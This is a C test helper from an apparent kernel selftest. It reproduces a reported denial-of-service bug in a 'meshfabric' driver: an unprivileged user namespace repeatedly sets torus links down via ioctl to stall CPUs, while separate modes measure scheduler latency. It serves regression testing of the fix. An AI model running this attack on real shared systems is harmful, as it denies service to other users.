// SPDX-License-Identifier: GPL-2.0
/*
 * mfdos: the fault-routing attack of issue 21 (finding 1) and what it does
 * to the machine (test_43-fault-dos.sh).
 *
 *   mfdos attack CPU SECONDS [SIDE]
 *	an ordinary user (uid 65534 - CPU: one real user per attacker, then
 *	a user and a network namespace of its own, as `unshare -Urn`),
 *	pinned to CPU, creates a SIDE x SIDE
 *	torus (256 by default; no netdevs) and sets y+ links down one by one
 *	until LINK_SET refuses one, then repeats the refused call (or, if
 *	none was refused, flips the last link up and down) until SECONDS
 *	pass.  Prints "down N refused ERR worst_ms W calls C".
 *   mfdos refuse CPU
 *	the same user creates a 65536-node ring and sets one link down
 *	(refused: the routing's work bound), twice; prints "refused ERR
 *	twice ms1 M1 ms2 M2" or "accepted".
 *   mfdos burn CPU SECONDS
 *	the control: an ordinary process spinning in user space on CPU
 *	(what the guest's CPUs look like to the host during the attack).
 *   mfdos lat CPU SECONDS
 *	a sleeper pinned to CPU: 1 ms nanosleep in a loop; prints the worst
 *	wake-up delay past the 1 ms, "worst_ms W wakeups N late100 L" (L
 *	of them over 100 ms late), and to stderr each one over 20 ms late,
 *	"late_ms D woke T" (T: CLOCK_MONOTONIC seconds at the wake-up).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>
#include <linux/meshfabric.h>

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void die(const char *what)
{
	fprintf(stderr, "mfdos: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void pin(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set))
		die("sched_setaffinity");
}

static void put(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, s, strlen(s)) != (ssize_t)strlen(s))
		die(path);
	close(fd);
}

/* uid, then root of a user namespace of its own (unshare -Urn) */
static void ordinary_user(unsigned int uid)
{
	char map[32];

	if (setgroups(0, NULL) || setresgid(uid, uid, uid) ||
	    setresuid(uid, uid, uid))
		die("dropping privileges");
	/* changing uids made the process non-dumpable: /proc/self would
	 * stay root's, and the maps unwritable
	 */
	if (prctl(PR_SET_DUMPABLE, 1, 0, 0, 0))
		die("prctl");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
		die("unshare");
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	put("/proc/self/uid_map", map);
	put("/proc/self/gid_map", map);
}

/* port 2: y+ (0: x+) */
static int link_set_port(int fd, __u32 id, __u32 node, __u32 port,
			 __u32 down, double *ms)
{
	struct meshfabric_link_set ls = {
		.id = id, .flags = MESHFABRIC_LINK_STATE, .node = node,
		.port = port, .down = down,
	};
	double t0 = now();
	int err = ioctl(fd, MESHFABRIC_IOC_LINK_SET, &ls) ? errno : 0;

	*ms = (now() - t0) * 1e3;
	return err;
}

static int link_set(int fd, __u32 id, __u32 node, __u32 down, double *ms)
{
	return link_set_port(fd, id, node, 2, down, ms);
}

static int attack(int cpu, double secs, __u32 side)
{
	struct meshfabric_create c = {
		.kind = MESHFABRIC_KIND_TORUS, .ndims = 2, .dims = { side, side },
	};
	struct meshfabric_destroy d = { 0 };
	double end, ms, worst = 0;
	__u32 down = 0, calls = 0;
	int fd, err = 0;

	pin(cpu);
	/* one real user per attacker: the quotas are per real user */
	ordinary_user(65534 - cpu);
	fd = open("/dev/meshfabric", O_RDWR);
	if (fd < 0 || ioctl(fd, MESHFABRIC_IOC_CREATE, &c))
		die("create");
	end = now() + secs;
	/* y+ of nodes 0, 1, 2, ... (row 0): down until refused */
	while (down < MESHFABRIC_DOWN_MAX && now() < end) {
		err = link_set(fd, c.id, down, 1, &ms);
		calls++;
		worst = ms > worst ? ms : worst;
		fprintf(stderr, "link %u down: %s, %.0f ms (ended %.1f s)\n",
			down, err ? strerror(err) : "ok", ms, now());
		if (err)
			break;
		down++;
	}
	while (now() < end) {
		if (err) {
			link_set(fd, c.id, down, 1, &ms);
		} else {
			link_set(fd, c.id, down - 1, 0, &ms);
			worst = ms > worst ? ms : worst;
			link_set(fd, c.id, down - 1, 1, &ms);
			calls++;
		}
		calls++;
		worst = ms > worst ? ms : worst;
	}
	printf("down %u refused %s worst_ms %.0f calls %u\n", down,
	       err ? strerror(err) : "none", worst, calls);
	d.id = c.id;
	if (ioctl(fd, MESHFABRIC_IOC_DESTROY, &d))
		die("destroy");
	return 0;
}

static int refuse(int cpu)
{
	struct meshfabric_create c = {
		.kind = MESHFABRIC_KIND_TORUS, .ndims = 1, .dims = { 65536 },
	};
	struct meshfabric_destroy d = { 0 };
	double ms1, ms2;
	int fd, e1, e2;

	pin(cpu);
	ordinary_user(65534);
	fd = open("/dev/meshfabric", O_RDWR);
	if (fd < 0 || ioctl(fd, MESHFABRIC_IOC_CREATE, &c))
		die("create");
	e1 = link_set_port(fd, c.id, 0, 0, 1, &ms1);
	e2 = link_set_port(fd, c.id, 0, 0, 1, &ms2);
	if (e1 && e1 == e2)
		printf("refused %s twice ms1 %.0f ms2 %.0f\n", strerror(e1),
		       ms1, ms2);
	else
		printf("accepted (%s, %s) ms1 %.0f ms2 %.0f\n", strerror(e1),
		       strerror(e2), ms1, ms2);
	d.id = c.id;
	if (ioctl(fd, MESHFABRIC_IOC_DESTROY, &d))
		die("destroy");
	return 0;
}

static int burn(int cpu, double secs)
{
	double end;

	pin(cpu);
	end = now() + secs;
	while (now() < end)
		;
	return 0;
}

static int lat(int cpu, double secs)
{
	struct timespec ms1 = { 0, 1000000 };
	double end, t0, d, worst = 0;
	unsigned long n = 0, late = 0;

	pin(cpu);
	end = now() + secs;
	while ((t0 = now()) < end) {
		nanosleep(&ms1, NULL);
		d = (now() - t0) * 1e3 - 1;
		worst = d > worst ? d : worst;
		/* the late ones, for test_43 to tell the machine's stalls
		 * (both sleepers at once) from this CPU's
		 */
		if (d > 20)
			fprintf(stderr, "late_ms %.1f woke %.4f\n", d,
				t0 + (d + 1) / 1e3);
		late += d > 100;
		n++;
	}
	printf("worst_ms %.1f wakeups %lu late100 %lu\n", worst, n, late);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 4 && !strcmp(argv[1], "attack"))
		return attack(atoi(argv[2]), atof(argv[3]),
			      argc > 4 ? (__u32)atoi(argv[4]) : 256);
	if (argc >= 3 && !strcmp(argv[1], "refuse"))
		return refuse(atoi(argv[2]));
	if (argc >= 4 && !strcmp(argv[1], "burn"))
		return burn(atoi(argv[2]), atof(argv[3]));
	if (argc >= 4 && !strcmp(argv[1], "lat"))
		return lat(atoi(argv[2]), atof(argv[3]));
	fprintf(stderr, "usage: mfdos attack CPU SECONDS [SIDE] | refuse CPU | burn CPU SECONDS | lat CPU SECONDS\n");
	return 2;
}
